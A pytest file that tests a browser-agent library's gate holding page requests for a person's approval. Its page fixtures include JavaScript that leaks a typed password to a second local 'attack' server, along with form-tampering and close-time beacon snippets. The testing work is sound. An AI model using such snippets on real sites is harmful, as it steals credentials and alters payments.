"""Requests that an agent's or a skill's action causes wait for the person; a server counts what arrives."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

import skillbook as sb
from skillbook.agents.run.agent_run import Run
from skillbook.agents.run.run_view import question_of
from skillbook.errors import AgentError
from skillbook.session.sync import Page
from skillbook.skill.consent.consent_summary import remember
from skillbook.testing.openai_server import OpenAIServer
from skillbook.testing.scripted_model import ToolCall
from skillbook.testing.site import Site
from tests.faults.attack.site import serve_attack
from tests.shown import after_reading
from tests.waiting import until

Start = Callable[..., Run]


@pytest.fixture(scope="module")
def far() -> Iterator[Site]:
    with serve_attack() as site:
        yield site


@pytest.fixture
def server() -> Iterator[OpenAIServer]:
    with OpenAIServer([]) as server:
        yield server


@pytest.fixture
def start(server: OpenAIServer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Start]:
    runs: list[Run] = []
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SKILLBOOK_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("SKILLBOOK_BASE_URL", server.base_url)
    monkeypatch.setenv("SKILLBOOK_MODEL", "scripted")
    monkeypatch.setenv("SKILLBOOK_MODEL_RETRIES", "0")

    def begin(page: Page, *steps: Any, **options: Any) -> Run:
        server.script.extend(steps)
        runs.append(sb.agent(page, "Do it.", **options))
        return runs[-1]

    yield begin
    for run in runs:
        run.stop()


def click(name: str) -> ToolCall:
    return ToolCall("click", {"target": f"button '{name}'"})


def go_on(run: Run, decide: Callable[[Run], object]) -> list[str]:
    """Run to the end, deciding on what is pending; returns what was asked, in words."""
    asked = []
    run.run()
    while run.status == "waiting":
        assert run.pending is not None
        asked.append(run.pending.review.reason)
        decide(run)
    assert run.status == "succeeded", run.error
    return asked


def refuse_requests(run: Run) -> None:
    """Approve calls and refuse what they send."""
    if run.pending is not None and run.pending.request is not None:
        after_reading(run).reject()
    else:
        after_reading(run).approve()


SEND = (
    "fetch('/write/x', {method: 'POST', headers: {'content-type': 'application/json'}, body: '{\"id\": 5}'})"
)


@pytest.fixture
def pages(open_page: Callable[[str], Page]) -> Iterator[tuple[Site, Callable[[str], Page]]]:
    with serve_attack() as site:

        def show(html: str) -> Page:
            site.app.pages["/page"] = html.replace('{"id": 5}', "{&quot;id&quot;: 5}")
            return open_page(f"{site.url}/page")

        yield site, show


Pages = tuple[Site, Callable[[str], Page]]


def test_the_card_says_what_is_sent_and_the_model_what_was_not(pages: Pages, start: Start) -> None:
    site, show = pages
    run = start(
        show(f'<button onclick="{SEND}">Next</button>'),
        click("Next"),
        lambda seen: seen[-1].text,
        autonomy="all",
    )
    run.run()
    assert run.pending is not None
    assert run.pending.tool == "send_request"
    host = site.url.removeprefix("http://")
    assert run.pending.review.reason == (
        f"click on button 'Next' wants to send POST {host}/write/x with 1 field: id: it may change something"
    )
    assert site.app.arrived == []
    with pytest.raises(AgentError, match="the page waits to send something"):
        run.fork(at=1)
    after_reading(run).reject("it is too early")
    assert "was not allowed (the person refused: it is too early); it was not sent" in run.result
    assert "page-content untrusted" in run.result
    assert "it was not sent" in run.records[-1].result


def test_fault_54_allowed_requests_are_rules_that_can_be_read_and_taken_back(
    pages: Pages, start: Start, browser: Any
) -> None:
    site, show = pages
    buttons = {"One": "5", "Two": "6", "Three": "7/more", "Delete it": "5", "Four": "5/delete"}
    page = show(
        "".join(
            f'<button onclick="{SEND.replace("/x", "/" + to)}">{name}</button>'
            for name, to in buttons.items()
        )
    )
    clicks = [click(name) for name in ("One", "One", "Two", "One", "Three", "Delete it", "Four", "One")]
    run = start(page, *clicks, "done", autonomy="all")
    asked: list[str] = []

    def decide(run: Run) -> None:
        pending = run.pending
        assert pending is not None
        if pending.tool != "send_request":
            after_reading(run).approve()
            return
        name = next(name for name in buttons if name in pending.review.reason)
        asked.append(name)
        if len(asked) == 1:
            view = question_of(run, pending)
            assert (view.always, view.learn) == (["session"], f"POST {site.url}/write/5 with the same id")
            assert f"always='session' would allow {view.learn}" in repr(pending)
            with pytest.raises(AgentError, match="isn't this request's address"):
                after_reading(run).approve(always="session", address="/write/{id}/more")
            after_reading(run).approve(always="session")
        elif name == "Two":
            after_reading(run).approve(always="session", address="/write/{id}")
        else:
            if name in {"Delete it", "Four"}:
                assert pending.review.learn is None, "it can't be undone"
                with pytest.raises(AgentError, match="No rule can be made"):
                    after_reading(run).approve(always="session")
            if name == "Four":
                for rule in list(browser.rules):
                    browser.rules.remove(rule)
            after_reading(run).reject()

    go_on(run, decide)
    assert asked == ["One", "Two", "Three", "Delete it", "Four", "One"]
    assert site.app.arrived == ["POST /write/5", "POST /write/5", "POST /write/6", "POST /write/5"]
    assert len(browser.rules) == 0


def test_an_answer_that_the_page_never_reads_keeps_it_from_no_rest(pages: Pages, start: Start) -> None:
    """The debugger reports the end of such an answer when the page forgets it, which may take minutes."""
    _, show = pages
    page = show(f'<button onclick="{SEND}">Next</button>')
    rest = ToolCall("wait_for", {"idle": True, "seconds": 4})
    run = start(page, click("Next"), rest, "done", autonomy="all")
    go_on(run, lambda run: after_reading(run).approve())
    assert [(step.tool, step.error) for step in run.records] == [("click", None), ("wait_for", None)]


def test_a_form_that_the_card_announced_asks_once(pages: Pages, start: Start) -> None:
    site, show = pages
    fields = "<input name=street value=x><input name=zip value=1>"
    form = f"<form method=post action=/write/order>{fields}<button>Go</button></form>"
    run = start(show(form), click("Go"), "done", autonomy="ask")
    asked = go_on(run, lambda run: after_reading(run).approve())
    host = site.url.removeprefix("http://")
    assert len(asked) == 1
    assert f"it sends POST {host}/write/order with 2 fields: street, zip" in asked[0]
    assert site.app.arrived == ["POST /write/order"]
    assert run.page.url.endswith("/write/order")


def test_a_form_that_sends_more_than_the_card_announced_asks_again(pages: Pages, start: Start) -> None:
    site, show = pages
    form = """<form method=post action=/write/order onsubmit="this.insertAdjacentHTML('beforeend',
    '<input name=extra value=1>')"><input name=street value=x><button>Go</button></form>"""
    page = show(form)
    asked = go_on(start(page, click("Go"), "done", autonomy="ask"), refuse_requests)
    assert len(asked) == 2
    assert "street, extra" in asked[1]
    assert site.app.arrived == []
    assert page.url.endswith("/page")
    assert page.snapshot().find("button 'Go'")


@pytest.mark.parametrize("change", ["this.amount.value = 9999", "this.to.value = 'Eve'"])
def test_fault_55_another_value_than_the_approved_one_asks_again(
    pages: Pages, start: Start, change: str
) -> None:
    site, show = pages
    form = f"""<form method=post action=/write/pay onsubmit="{change}"><input name=amount value=1>
    <input type=hidden name=to value=Ann><button>Pay 1 EUR</button></form>"""
    page = show(form)
    asked = go_on(start(page, click("Pay 1 EUR"), "done", autonomy="ask"), refuse_requests)
    assert len(asked) == 2
    assert site.app.arrived == []
    page.evaluate("document.querySelector('form').onsubmit = null")


def test_a_persons_calls_are_never_held_and_nothing_is_attached(pages: Pages, browser: Any) -> None:
    site, show = pages
    page = show(f'<button onclick="{SEND}">Next</button>')
    page.click("button 'Next'")
    page.wait_for(idle=True)
    assert site.app.arrived == ["POST /write/x"]
    assert not browser.journal.requests["tab"].isin([page.driver.tab.id]).any()


def test_a_person_who_acts_takes_over(pages: Pages, start: Start) -> None:
    site, show = pages
    page = show(f'<button onclick="{SEND}">Next</button><button>Other</button>')
    run = start(page, click("Next"), lambda seen: seen[-1].text, autonomy="all")
    run.run()
    assert run.status == "waiting"
    page.click("button 'Other'")
    run.run()
    assert run.status == "succeeded"
    assert "nothing was sent" in run.result
    assert site.app.arrived == []


def test_what_a_page_polls_by_itself_goes_on(pages: Pages, start: Start) -> None:
    site, show = pages
    poll = "setInterval(() => fetch('/write/poll/' + Date.now(), {method: 'POST'}), 50)"
    page = show(f"<button>Next</button><script>{poll}</script>")
    looked = ToolCall("wait_for", {"seconds": 0.5})
    assert (
        go_on(
            start(page, looked, click("Next"), "done", autonomy="all"),
            lambda run: after_reading(run).reject(),
        )
        == []
    )
    assert site.app.arrived


def test_fault_67_other_bytes_than_those_that_a_page_polls_with_are_asked_about(
    open_page: Callable[[str], Page], start: Start
) -> None:
    def send(last: int) -> str:
        return f"fetch('/poll', {{method: 'POST', body: new Uint8Array([255, {last}])}})"

    page = (
        f"<script>setInterval(() => {send(128)}, 50)</script>"
        f"<button onclick=\"{send(128)}.then(() => document.title = 'the same')\">Next</button>"
        f"<button onclick=\"{send(129)}.then(() => document.title = 'another')\">Other</button>"
    )
    with serve_bytes(page) as (url, bodies):
        shown = open_page(url)
        until(lambda: len(bodies) > 3, "the page doesn't poll")
        same = start(shown, click("Next"), ToolCall("wait_for", {"text": "Next"}), "done", autonomy="all")
        assert go_on(same, lambda run: after_reading(run).reject()) == []
        until(lambda: shown.title == "the same", "what the page sends by itself was held")
        asked = go_on(
            start(shown, click("Other"), "done", autonomy="all"), lambda run: after_reading(run).reject()
        )
        assert len(asked) == 1
        assert "/poll" in asked[0]
        assert set(bodies) == {b"\xff\x80"}
        shown.close()


@contextmanager
def serve_bytes(page: str) -> Iterator[tuple[str, list[bytes]]]:
    """Serve a page, and collect what is posted, as it is."""
    bodies: list[bytes] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            bodies.append(self.rfile.read(int(self.headers["Content-Length"])))
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", bodies
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("closes", ["person", "agent"])
def test_fault_33_what_a_page_sends_when_its_tab_is_closed_is_blocked(
    pages: Pages, start: Start, open_page: Callable[[str], Page], closes: str
) -> None:
    site, show = pages
    leaving = "addEventListener('pagehide', () => navigator.sendBeacon('/write/closing', 'x'))"
    page = show(f'<button onclick="{leaving}">Next</button>')
    closing = [ToolCall("tabs_close", {})] if closes == "agent" else []
    kept = open_page(site.url)
    go_on(
        start(page, click("Next"), *closing, "done", autonomy="all"), lambda run: after_reading(run).approve()
    )
    if closes == "person":
        page.close()
    kept.goto(f"{site.url}/later")
    kept.wait_for(idle=True)
    assert site.app.arrived == []


def test_a_skill_that_sends_something_ends_when_its_page_is_at_rest(
    pages: Pages, start: Start, open_page: Callable[[str], Page], tmp_path: Path
) -> None:
    site, show = pages
    run = start(show(f'<button onclick="{SEND}">Next</button>'), click("Next"), "done", autonomy="all")
    go_on(run, lambda run: after_reading(run).approve())
    skill = run.save_skill("send-it", folder=str(tmp_path / "skills"))
    more = f"{SEND}; setTimeout(() => fetch('/write/more', {{method: 'PUT'}}), 250)"
    show(f'<button onclick="{more}">Next</button>')
    result = skill.run(open_page(f"{site.url}/page"))
    assert result.error is not None
    assert "/write/more" in result.error.message
    assert "PUT /write/more" not in site.app.arrived


def test_what_a_skill_sends_after_its_end_is_blocked_and_its_result_says_so(
    pages: Pages, start: Start, open_page: Callable[[str], Page], tmp_path: Path, caplog: Any
) -> None:
    site, show = pages
    skill = _saved(start(show("<button>Next</button>"), click("Next"), "done", autonomy="all"), tmp_path)
    show(f'<button onclick="setTimeout(() => {SEND}, 3500)">Next</button>')
    result = skill.run(open_page(f"{site.url}/page"))
    assert result.ok
    deadline = time.monotonic() + 10
    while result.ok and time.monotonic() < deadline:
        time.sleep(0.01)
    assert not result.ok
    assert result.error is not None
    assert "wants to send POST" in result.error.message
    assert "after the replay's end" in caplog.text
    assert site.app.arrived == []


def _saved(run: Run, folder: Path) -> sb.Skill:
    go_on(run, lambda run: after_reading(run).approve())
    return run.save_skill("saved", folder=str(folder / "skills"))


def test_what_an_agents_script_sends_a_moment_later_asks(pages: Pages, start: Start) -> None:
    site, show = pages
    later = "setTimeout(() => fetch('/write/script', {method: 'POST'}), 300)"
    page = show("<p>here</p>")
    script = ToolCall("evaluate", {"expression": later})
    asked = go_on(start(page, script, "done", autonomy="all"), refuse_requests)
    assert [each for each in asked if "/write/script" in each]
    assert site.app.arrived == []


def test_a_picture_that_resizes_the_page_is_an_act(pages: Pages, start: Start) -> None:
    site, show = pages
    page = show("<p>here</p><script>onresize = () => fetch('/write/resized', {method: 'POST'})</script>")
    asked = go_on(start(page, ToolCall("screenshot", {"full_page": True}), "done"), refuse_requests)
    assert [each for each in asked if "/write/resized" in each]
    assert site.app.arrived == []


def test_searching_filtering_and_paging_by_get_ask_nothing(pages: Pages, start: Start) -> None:
    site, show = pages
    page = show(
        "<form action=/list><input aria-label=Search name=q><button>Find</button></form>"
        "<a href='/list?page=2&sort=price'>Next page</a>"
        "<button onclick=\"fetch('/list?filter=cancelled')\">Filter</button>"
    )
    steps = [
        ToolCall("fill", {"target": "textbox 'Search'", "value": "delete me"}),
        click("Filter"),
        click("Find"),
        ToolCall("goto", {"url": f"{site.url}/list?page=3"}),
    ]
    assert go_on(start(page, *steps, "done", autonomy="all"), lambda run: after_reading(run).reject()) == []
    assert "GET /list" in site.app.all


def test_stopping_blocks_what_waits(pages: Pages, start: Start) -> None:
    site, show = pages
    run = start(show(f'<button onclick="{SEND}">Next</button>'), click("Next"), "done", autonomy="all")
    run.run()
    run.stop()
    assert (run.status, run.pending, site.app.arrived) == ("stopped", None, [])


def test_fault_49_what_was_refused_is_no_habit_of_the_next_run(pages: Pages, start: Start) -> None:
    site, show = pages
    tries = "fetch('/again', {method: 'POST', body: 'x=1'}).finally(() => {"
    tries += " document.body.append(' tried' + ++n); if (n < 16) setTimeout(go, 200); })"
    page = show(f'<button onclick="go()">Next</button><script>let n = 0; const go = () => {tries};</script>')
    assert go_on(start(page, click("Next"), "done", autonomy="all"), refuse_requests)
    go_on(
        start(page, ToolCall("wait_for", {"text": "tried6"}), click("Next"), "done", autonomy="all"),
        refuse_requests,
    )
    assert site.app.arrived == []


def test_a_secret_does_not_leave_for_another_site(
    pages: Pages, far: Site, start: Start, monkeypatch: pytest.MonkeyPatch
) -> None:
    site, show = pages
    monkeypatch.setenv("SKILLBOOK_SECRET_GATEBANK", "s3cr3t-of-bank")
    sb.secret("gatebank", origins={site.url})
    far.app.all.clear()
    leak = f"new Image().src = '{far.url}/pixel?v=' + btoa(document.getElementById('p').value)"
    page = show(f'<input type=password id=p aria-label=Password><button onclick="{leak}">Next</button>')
    fill = ToolCall("fill", {"target": "textbox 'Password'", "value": "${secret:gatebank}"})
    asked = go_on(start(page, fill, click("Next"), "done", autonomy="all"), refuse_requests)
    assert [
        each for each in asked if "carries the secret 'gatebank' to a site that it doesn't belong to" in each
    ]
    assert far.app.all == []


def test_the_journal_has_names_and_no_values(pages: Pages, start: Start, browser: Any) -> None:
    _, show = pages
    form = "<form method=post action=/write/order><input name=street value='Elm Street 12'><button>Go</button></form>"
    run = start(show(form), click("Go"), "done", autonomy="all")
    go_on(run, lambda run: after_reading(run).approve())
    row = browser.journal.requests.iloc[-1]
    assert (row["method"], row["path"], row["fields"]) == ("POST", "/write/order", ("street",))
    assert (row["verdict"], row["ending"], row["reason"]) == ("ask", "sent", "the person allowed it")
    assert row["cause"] == "click on button 'Go'"
    assert row["run"].startswith(run.id)
    assert "Elm" not in browser.driver.journal.path.read_bytes().decode("latin-1")


def test_a_skill_sends_what_it_says_and_nothing_else(
    pages: Pages, start: Start, open_page: Callable[[str], Page], tmp_path: Path
) -> None:
    site, show = pages
    run = start(show(f'<button onclick="{SEND}">Next</button>'), click("Next"), "done", autonomy="all")
    go_on(run, lambda run: after_reading(run).approve())
    skill = run.save_skill("send-it", folder=str(tmp_path / "skills"))
    text = (tmp_path / "skills" / "send-it" / "replay.yaml").read_text()
    assert "sends:" in text
    assert "${input:site}" in text
    (send,) = skill.spec.sends
    assert (send.step, send.method, send.path) == (1, "POST", "/write/x")
    site.app.arrived.clear()
    skill.run(open_page(f"{site.url}/page")).raise_for_error()
    assert site.app.arrived == ["POST /write/x"]
    site.app.arrived.clear()
    more = SEND.replace("/write/x", "/write/account/7").replace("POST", "DELETE")
    show(site.app.pages["/page"].replace('<button onclick="', f'<button onclick="{more};'))
    result = skill.run(open_page(f"{site.url}/page"))
    assert not result.ok
    assert result.error is not None
    assert "wants to send DELETE" in result.error.message
    assert "/write/account/{id}" in result.error.message
    assert "may send POST" in result.error.message
    assert "DELETE /write/account/7" not in site.app.arrived


def test_fault_56_a_skill_sends_no_other_record_no_other_field_and_no_more(
    pages: Pages, start: Start, open_page: Callable[[str], Page], tmp_path: Path
) -> None:
    site, show = pages
    remove = "fetch('/write/items/1?all=0', {method: 'DELETE'})"
    run = start(
        show(f'<button onclick="{SEND}; {remove}">Next</button>'), click("Next"), "done", autonomy="all"
    )
    go_on(run, lambda run: after_reading(run).approve())
    skill = run.save_skill("send-it", folder=str(tmp_path / "skills"))
    sends = [(send.method, send.path, send.fields, send.count) for send in skill.spec.sends or ()]
    assert sends == [
        ("POST", "/write/x", ["JSON object", "id (number)"], 1),
        ("DELETE", "/write/items/1?all=0", [], 1),
    ]
    for script in (
        remove.replace("items/1", "items/999"),
        remove.replace("all=0", "all=1"),
        SEND.replace('{"id": 5}', '{"id": 5, "admin": 1}').replace('"', "&quot;"),
        f"{SEND}; setTimeout(() => {SEND}, 50)",
    ):
        site.app.arrived.clear()
        show(f'<button onclick="{script}">Next</button>')
        result = skill.run(open_page(f"{site.url}/page"))
        assert result.error is not None, script
        assert "wants to send" in result.error.message
        assert site.app.arrived in ([], ["POST /write/x"])


def test_an_older_skill_sends_nothing_unasked(
    pages: Pages, start: Start, open_page: Callable[[str], Page], tmp_path: Path
) -> None:
    site, show = pages
    run = start(show(f'<button onclick="{SEND}">Next</button>'), click("Next"), "done", autonomy="all")
    go_on(run, lambda run: after_reading(run).approve())
    saved = run.save_skill("send-it", folder=str(tmp_path / "skills"))
    skill = sb.Skill(saved.spec.model_copy(update={"sends": None}))
    site.app.arrived.clear()
    refused = skill.run(open_page(f"{site.url}/page"))
    assert refused.error is not None
    assert refused.error.code == "approval_required"
    # That it was approved says nothing of what it sends.
    remember(tmp_path / "home", skill.digest)
    refused = skill.run(open_page(f"{site.url}/page"))
    assert refused.error is not None
    assert refused.error.code == "approval_required"
    assert site.app.arrived == []
    questions: list[str] = []
    asked = skill.run(open_page(f"{site.url}/page"), approve=lambda said: not questions.append(said))
    assert asked.ok, asked.error
    assert len(questions) == 1
    assert skill.run(open_page(f"{site.url}/page"), approve=skill.digest).ok
    deadline = time.monotonic() + 5
    while len(site.app.arrived) < 2 and time.monotonic() < deadline:
        time.sleep(0.01)
    assert site.app.arrived == ["POST /write/x", "POST /write/x"]


def test_a_secret_does_not_leave_while_it_is_typed(
    pages: Pages, far: Site, start: Start, monkeypatch: pytest.MonkeyPatch
) -> None:
    site, show = pages
    monkeypatch.setenv("SKILLBOOK_SECRET_TYPEDBANK", "t1ped-s3cret")
    sb.secret("typedbank", origins={site.url})
    far.app.all.clear()
    leak = f"fetch('{far.url}/pixel?v=' + encodeURIComponent(this.value), {{mode: 'no-cors'}})"
    page = show(f'<input type=password aria-label=Password oninput="{leak}">')
    fill = ToolCall("fill", {"target": "textbox 'Password'", "value": "${secret:typedbank}"})
    asked = go_on(start(page, fill, "done", autonomy="all"), refuse_requests)
    assert [each for each in asked if "carries the secret 'typedbank'" in each]
    assert far.app.all == []


def test_what_waits_when_the_debugger_is_driven_off_is_reported_as_unknown(
    pages: Pages, start: Start, browser: Any
) -> None:
    _, show = pages
    drive_off = "setTimeout(() => f.src = 'customscheme://x', 700)"
    page = show(f'<iframe id=f></iframe><button onclick="{SEND}; {drive_off}">Next</button>')
    run = start(page, click("Next"), lambda seen: seen[-1].text, autonomy="all")
    run.run()
    assert run.status == "waiting"
    deadline = time.monotonic() + 10
    while run.status == "waiting" and time.monotonic() < deadline:
        time.sleep(0.05)
    run.run()
    assert run.status == "succeeded", run.error
    assert "may have been sent: the debugger was driven off" in run.result
    assert browser.journal.requests.iloc[-1]["ending"] == "unknown"


def test_what_a_new_tab_sends_while_it_loads_asks(pages: Pages, start: Start) -> None:
    site, show = pages
    page = show("<p>here</p>")
    opening = ToolCall("tabs_open", {"url": f"{site.url}/autosend"})
    asked = go_on(start(page, opening, "done", autonomy="all"), refuse_requests)
    assert [each for each in asked if "POST" in each and "/write/autosend" in each]
    assert site.app.arrived == []


def test_synthetic_input_is_held_as_well(synthetic_browser: Any, pages: Pages, start: Start) -> None:
    site, _ = pages
    site.app.pages["/page"] = "<button onclick=\"fetch('/write/x', {method: 'POST'})\">Next</button>"
    page = synthetic_browser.open(f"{site.url}/page")
    asked = go_on(
        start(page, click("Next"), "done", autonomy="all"), lambda run: after_reading(run).reject("no")
    )
    assert [each for each in asked if "/write/x" in each]
    assert site.app.arrived == []
    page.close()


def test_messages_of_a_websocket_are_counted_in_the_journal(pages: Pages, start: Start, browser: Any) -> None:
    from websockets.sync.server import serve

    got: list[str] = []
    with serve(lambda socket: got.extend(socket), "127.0.0.1", 0) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        address = f"ws://127.0.0.1:{server.socket.getsockname()[1]}/live/17"
        _, show = pages
        opened = f"new WebSocket('{address}')"
        send = (
            f"ws.send('order'); const late = {opened}; late.onopen = () => [1, 2].forEach(i => late.send(i))"
        )
        page = show(f'<button onclick="{send}">Next</button><script>window.ws = {opened}</script>')
        page.wait_for(function="ws.readyState === 1")
        assert (
            go_on(start(page, click("Next"), "done", autonomy="all"), lambda run: after_reading(run).reject())
            == []
        )
        deadline = time.monotonic() + 5
        while len(got) < 3 and time.monotonic() < deadline:
            time.sleep(0.01)
        seen = browser.journal.requests
        rows = seen[seen["method"] == "WEBSOCKET"].tail(2)
        # Nobody knows the address of the one that was open before.
        counts = dict(zip(rows["path"], rows["count"], strict=True))
        assert counts == {"": 1, "/live/{id}": 2}
        assert set(rows["ending"]) == {"sent"}
        server.shutdown()


def test_fault_33_closing_a_tab_blocks_what_waits_there(
    pages: Pages, start: Start, open_page: Callable[[str], Page]
) -> None:
    site, show = pages
    page = show(f'<button onclick="{SEND}">Next</button>')
    kept = open_page(site.url)
    run = start(page, click("Next"), "done", autonomy="all")
    run.run()
    assert run.status == "waiting"
    page.close()
    kept.goto(f"{site.url}/later")
    kept.wait_for(idle=True)
    assert site.app.arrived == []
